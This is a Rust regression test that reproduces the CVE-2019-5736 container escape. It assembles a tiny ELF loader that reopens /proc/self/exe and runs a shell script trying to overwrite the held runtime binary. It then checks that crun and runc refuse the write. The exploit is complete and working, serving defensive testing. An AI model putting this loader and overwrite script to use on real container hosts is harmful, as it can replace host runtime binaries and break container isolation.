//! A job does not get at the binary that made its container (CVE-2019-5736).
//!
//! The image's program is `/proc/self/exe`: what makes the container executes itself once more, inside, and with the image's
//! dynamic loader. That loader keeps the binary open and becomes a shell, whereupon nobody executes the binary any more,
//! and writes to it. Here the loader is a program of a hundred bytes; everything else is as it was done in 2019.
#![cfg(target_arch = "x86_64")]

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use davit_rpc::local::SubmitRequest;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::support::{Executor, output};

/// Where the loader is loaded.
const BASE: u32 = 0x1000_0000;
/// Of the file's header and its one segment, bytes.
const HEADERS: u32 = 64 + 56;
/// Bytes of the loader's instructions.
const CODE: u32 = 48;
/// What the shell does with each descriptor it was left.
const ATTACK: &str = "exec 2>&1; echo attacked; for fd in /proc/$$/fd/*; do n=${fd##*/}; [ $n -gt 2 ] || continue; \
    echo holds $(readlink $fd); if (echo overwritten >$fd); then echo won; fi; done";

fn digest_of(bytes: &[u8]) -> String {
    let hash = Sha256::digest(bytes);
    hash.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// open("/proc/self/exe"); execve("/bin/busybox", {"sh", "-c", ATTACK}); exit(99)
fn loader() -> Vec<u8> {
    let data = BASE + HEADERS + CODE;
    let mut texts = Vec::new();
    let mut place = |text: &str| {
        let at = data + u32::try_from(texts.len()).unwrap();
        texts.extend(text.bytes().chain([0]));
        at
    };
    let places = ["/proc/self/exe", "/bin/busybox", "sh", "-c", ATTACK].map(&mut place);
    texts.resize(texts.len().next_multiple_of(8), 0);
    let arguments = data + u32::try_from(texts.len()).unwrap();
    for pointer in [places[2], places[3], places[4], 0] {
        texts.extend(u64::from(pointer).to_le_bytes());
    }
    let mut code = Vec::new();
    let load = |code: &mut Vec<u8>, register: u8, value: u32| {
        code.push(0xb8 + register);
        code.extend(value.to_le_bytes());
    };
    let (eax, edi, esi) = (0, 7, 6);
    load(&mut code, eax, 2);
    load(&mut code, edi, places[0]);
    code.extend([0x31, 0xf6, 0x0f, 0x05]); // xor esi, esi; syscall
    load(&mut code, eax, 59);
    load(&mut code, edi, places[1]);
    load(&mut code, esi, arguments);
    code.extend([0x31, 0xd2, 0x0f, 0x05]); // xor edx, edx; syscall
    load(&mut code, eax, 60);
    load(&mut code, edi, 99);
    code.extend([0x0f, 0x05]);
    code.resize(CODE as usize, 0x90);

    let length = u64::from(HEADERS) + code.len() as u64 + texts.len() as u64;
    let mut file = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    file.extend([2u16, 62].iter().flat_map(|half| half.to_le_bytes())); // ET_EXEC, x86-64
    file.extend(1u32.to_le_bytes());
    let entry = u64::from(BASE + HEADERS);
    file.extend([entry, 64, 0].iter().flat_map(|word| word.to_le_bytes()));
    file.extend(0u32.to_le_bytes());
    let sizes = [64u16, 56, 1, 64, 0, 0];
    file.extend(sizes.iter().flat_map(|half| half.to_le_bytes()));
    file.extend([1u32, 7].iter().flat_map(|half| half.to_le_bytes())); // PT_LOAD, rwx
    let base = u64::from(BASE);
    let segment = [0, base, base, length, length, 4_096];
    file.extend(segment.iter().flat_map(|word| word.to_le_bytes()));
    [file, code, texts].concat()
}

/// Pushes an image of busybox, that loader, and `/entry`, which is a script of `/proc/self/exe`'s.
fn push_image(name: &str, entrypoint: &str) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    for path in ["bin", "lib64", "proc", "dev", "sys", "tmp"] {
        fs::create_dir_all(root.join(path)).unwrap();
    }
    fs::copy("/usr/bin/busybox", root.join("bin/busybox")).unwrap();
    std::os::unix::fs::symlink("busybox", root.join("bin/readlink")).unwrap();
    for (path, bytes) in [
        ("lib64/ld-linux-x86-64.so.2", loader()),
        ("entry", b"#!/proc/self/exe\n".to_vec()),
    ] {
        fs::write(root.join(path), bytes).unwrap();
        fs::set_permissions(root.join(path), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let layer = Command::new("tar")
        .args(["--numeric-owner", "-cC"])
        .arg(&root)
        .arg(".")
        .output()
        .unwrap();
    assert!(layer.status.success(), "{layer:?}");
    let layout = dir.path().join("layout");
    let blobs = layout.join("blobs/sha256");
    fs::create_dir_all(&blobs).unwrap();
    let put = |kind: &str, bytes: &[u8]| -> Value {
        let digest = digest_of(bytes);
        fs::write(blobs.join(&digest), bytes).unwrap();
        let kind = format!("application/vnd.oci.image.{kind}");
        json!({"mediaType": kind, "digest": format!("sha256:{digest}"), "size": bytes.len()})
    };
    let layer = put("layer.v1.tar", &layer.stdout);
    let config = json!({
        "os": "linux", "architecture": "amd64",
        "config": {"Entrypoint": [entrypoint], "Env": ["PATH=/bin"]},
        "rootfs": {"type": "layers", "diff_ids": [layer["digest"]]},
    });
    let config = put("config.v1+json", config.to_string().as_bytes());
    let manifest = json!({"schemaVersion": 2, "config": config, "layers": [layer]});
    let manifest = put("manifest.v1+json", manifest.to_string().as_bytes());
    let index = json!({"schemaVersion": 2, "manifests": [manifest]});
    fs::write(layout.join("index.json"), index.to_string()).unwrap();
    fs::write(
        layout.join("oci-layout"),
        r#"{"imageLayoutVersion":"1.0.0"}"#,
    )
    .unwrap();
    let copied = Command::new("skopeo")
        .args(["--insecure-policy", "copy", "--dest-tls-verify=false"])
        .arg(format!("oci:{}", layout.display()))
        .arg(format!("docker://{name}"))
        .output()
        .unwrap();
    assert!(copied.status.success(), "{copied:?}");
}

/// What could be overwritten: runtimes and shim, by path.
fn binaries() -> BTreeMap<PathBuf, String> {
    let path = std::env::var_os("PATH").unwrap();
    let directories: Vec<PathBuf> = std::env::split_paths(&path).collect();
    let found = |name: &str| {
        let mut places = directories.iter().map(|directory| directory.join(name));
        places
            .find(|place| place.is_file())
            .unwrap_or_else(|| panic!("{name} is not in PATH"))
    };
    let digest = |path: &Path| digest_of(&fs::read(path).unwrap());
    ["crun", "runc", "containerd-shim-davit-v1"]
        .map(|name| (found(name), digest(&found(name))))
        .into()
}

#[tokio::test]
#[ignore = "needs a real host: scripts/test runs it"]
async fn the_runtimes_binary_is_not_the_jobs_to_overwrite() {
    let before = binaries();
    // Root in the container is root outside: nothing but the binary's own place keeps it.
    let mut executor = Executor::start_with_ids("off 1").await;
    for (at, entrypoint) in ["/proc/self/exe", "/entry"].into_iter().enumerate() {
        let image = format!("127.0.0.1:5000/attack/exe:{at}");
        push_image(&image, entrypoint);
        for runtime in ["crun", "runc"] {
            let request = SubmitRequest {
                image: image.clone(),
                runtime: runtime.into(),
                ..SubmitRequest::default()
            };
            let run = executor.submit(request).await.unwrap();
            let (records, ended) = executor.follow(&run, 0).await;
            let said = String::from_utf8(output(&records, "stdout")).unwrap();
            assert!(
                said.starts_with("attacked\n"),
                "{runtime} {entrypoint}: {said} {ended:?}"
            );
            assert!(said.contains("holds "), "{runtime} {entrypoint}: {said}");
            assert!(
                said.contains("Read-only file system") || said.contains("Operation not permitted"),
                "{runtime} {entrypoint}: {said}"
            );
            assert!(!said.contains("won"), "{runtime} {entrypoint}: {said}");
            assert_eq!(binaries(), before, "{runtime} {entrypoint}: {said}");
        }
    }
    executor.finish().await;
}
